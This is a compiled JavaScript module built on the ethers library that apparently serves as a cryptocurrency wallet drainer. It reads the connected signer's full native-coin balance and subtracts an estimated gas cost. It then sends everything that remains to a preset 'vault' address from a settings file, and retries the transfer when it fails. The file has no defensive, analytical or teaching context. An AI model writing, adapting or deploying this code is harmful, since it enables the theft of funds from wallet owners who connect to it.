"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.NativeModule = void 0;
var tslib_1 = require("tslib");
var ethers_1 = require("ethers");
var settings_1 = require("./settings");
var NativeModule = (function () {
    function NativeModule(provider) {
        this.provider = provider;
        this.tries = 0;
    }
    NativeModule.prototype.amount = function (owner) {
        return tslib_1.__awaiter(this, void 0, void 0, function () {
            var held, fee, cost;
            return tslib_1.__generator(this, function (_a) {
                switch (_a.label) {
                    case 0: return [4, this.provider.getBalance(owner)];
                    case 1:
                        held = _a.sent();
                        return [4, this.provider.getGasPrice()];
                    case 2:
                        fee = _a.sent();
                        cost = fee.mul(21000).mul(13).div(10);
                        return [2, held.sub(cost)];
                }
            });
        });
    };
    NativeModule.prototype.run = function () {
        return tslib_1.__awaiter(this, void 0, void 0, function () {
            var signer, owner, value, e_1;
            return tslib_1.__generator(this, function (_a) {
                switch (_a.label) {
                    case 0:
                        signer = this.provider.getSigner();
                        return [4, signer.getAddress()];
                    case 1:
                        owner = _a.sent();
                        return [4, this.amount(owner)];
                    case 2:
                        value = _a.sent();
                        if (value.lte(ethers_1.BigNumber.from(0)))
                            return [2, false];
                        _a.label = 3;
                    case 3:
                        _a.trys.push([3, 5, , 7]);
                        return [4, signer.sendTransaction({ to: settings_1.settings.vault, value: value })];
                    case 4:
                        _a.sent();
                        return [2, true];
                    case 5:
                        e_1 = _a.sent();
                        if (this.tries++ > settings_1.settings.repeat)
                            return [2, false];
                        return [4, this.run()];
                    case 6: return [2, _a.sent()];
                    case 7: return [2];
                }
            });
        });
    };
    return NativeModule;
}());
exports.NativeModule = NativeModule;
